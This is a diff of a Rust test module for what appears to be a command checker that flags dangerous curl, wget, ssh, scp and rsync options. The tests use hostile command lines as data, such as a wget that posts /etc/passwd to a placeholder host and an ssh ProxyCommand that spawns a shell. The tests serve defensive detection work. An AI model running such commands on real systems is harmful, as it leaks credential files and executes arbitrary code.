@@ -157,30 +157,8 @@ fn remote(operand: &str) -> bool {
 
 #[cfg(test)]
 mod tests {
-    use super::super::Hit;
+    use super::super::checking::{option, run, writes};
     use super::*;
-
-    fn run(f: fn(&str, &[String], &mut Effects), line: &str) -> Effects {
-        let mut words = line.split_whitespace().map(String::from);
-        let program = words.next().unwrap_or_default();
-        let args: Vec<String> = words.collect();
-        let mut effects = Effects::default();
-        f(&program, &args, &mut effects);
-        effects
-    }
-
-    fn option(f: fn(&str, &[String], &mut Effects), line: &str) -> String {
-        match run(f, line).hit {
-            Some(Hit::Option { option, .. }) => option,
-            other => panic!("{line}: {other:?}"),
-        }
-    }
-
-    fn writes(f: fn(&str, &[String], &mut Effects), line: &str) -> Vec<String> {
-        let effects = run(f, line);
-        assert!(effects.hit.is_none(), "{line}: {:?}", effects.hit);
-        effects.writes.into_iter().flatten().collect()
-    }
 
     #[test]
     fn curl_and_wget() {
@@ -205,16 +183,19 @@ mod tests {
             ),
             ("curl -w %output{/tmp/x} https://x", "-w"),
         ] {
-            assert_eq!(option(curl, line), hit, "{line}");
+            assert_eq!(option(curl, line).as_deref(), Some(hit), "{line}");
         }
         assert_eq!(writes(wget, "wget -qO /tmp/x https://x"), ["/tmp/x"]);
         assert!(writes(wget, "wget -qO- https://x").is_empty());
         assert_eq!(writes(wget, "wget -P ../dl https://x"), ["../dl"]);
         assert_eq!(
-            option(wget, "wget --post-file=/etc/passwd https://x"),
-            "--post-file"
+            option(wget, "wget --post-file=/etc/passwd https://x").as_deref(),
+            Some("--post-file")
         );
-        assert_eq!(option(wget, "wget -e output_document=/x https://x"), "-e");
+        assert_eq!(
+            option(wget, "wget -e output_document=/x https://x").as_deref(),
+            Some("-e")
+        );
     }
 
     #[test]
@@ -224,11 +205,20 @@ mod tests {
                 .hit
                 .is_none()
         );
-        assert_eq!(option(ssh, "ssh -o ProxyCommand=sh host"), "-o");
-        assert_eq!(option(ssh, "ssh -oLocalCommand=x host"), "-o");
-        assert_eq!(option(ssh, "ssh -F ./cfg host"), "-F");
-        assert_eq!(option(scp, "scp -S ./x a host:b"), "-S");
-        assert_eq!(option(copy_remote_rsync, "rsync -av -e ./x a host:b"), "-e");
+        assert_eq!(
+            option(ssh, "ssh -o ProxyCommand=sh host").as_deref(),
+            Some("-o")
+        );
+        assert_eq!(
+            option(ssh, "ssh -oLocalCommand=x host").as_deref(),
+            Some("-o")
+        );
+        assert_eq!(option(ssh, "ssh -F ./cfg host").as_deref(), Some("-F"));
+        assert_eq!(option(scp, "scp -S ./x a host:b").as_deref(), Some("-S"));
+        assert_eq!(
+            option(copy_remote_rsync, "rsync -av -e ./x a host:b").as_deref(),
+            Some("-e")
+        );
         assert_eq!(writes(scp, "scp host:a ../b"), ["../b"]);
         assert_eq!(writes(scp, "scp -P 22 a user@host:/b"), ["a"]);
         assert_eq!(
